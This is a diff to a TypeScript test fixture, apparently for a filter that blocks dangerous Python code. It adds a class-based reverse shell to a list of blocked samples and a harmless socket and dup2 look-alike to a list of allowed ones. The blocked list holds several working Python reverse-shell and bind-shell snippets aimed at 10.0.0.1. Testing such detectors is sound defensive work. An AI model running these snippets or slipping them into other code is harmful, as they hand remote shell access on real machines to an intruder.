@@ -83,6 +83,7 @@ const stopped: Readonly<Record<string, readonly string[]>> = {
     "import socket,subprocess\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\nsubprocess.call(['/bin/bash','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
     "import socket as k, subprocess as p\nc = k.create_connection(('10.0.0.1', 9001))\nwhile True:\n    line = c.recv(1024).decode()\n    c.send(p.run(line, shell=True, capture_output=True).stdout)",
     "from socket import *\nfrom os import *\ns=socket(2,1)\ns.connect(('10.0.0.1',4242))\nfor i in range(3): dup2(s.fileno(), i)\nsystem('/bin/sh -i')",
+    "import socket, subprocess\nclass Shell:\n    def __init__(self, host):\n        self.s = socket.socket()\n        self.s.connect((host, 9001))\n    def run(self):\n        subprocess.call(['/bin/sh'], stdin=self.s, stdout=self.s)\nShell('10.0.0.1').run()",
     "import socket, subprocess\nl = socket.socket()\nl.bind(('', 4444))\nl.listen(1)\nc, a = l.accept()\nwhile 1:\n    o = subprocess.getoutput(c.recv(99).decode())\n    c.send(o.encode())",
   ],
 };
@@ -122,6 +123,7 @@ const letThrough: Readonly<Record<string, readonly string[]>> = {
     "from math import *\nprint(eval('1+2'))",
     "import csv\nwith open('out.csv', 'w', newline='') as f:\n    w = csv.writer(f)\n    w.writerow(['a'])",
     "import os; os.makedirs('dist/a', exist_ok=True); os.rename('a.txt', 'dist/a/a.txt')",
+    "import socket, os\ndef serve():\n    s = socket.socket()\n    s.bind(('localhost', 0))\ndef quiet():\n    os.dup2(os.open(os.devnull, os.O_WRONLY), 1)\nprint(1)",
     "import http.server\nprint(http.server.__file__)",
     "print(f\"{1+1} {'a'*3}\")",
     "print 'python two'",
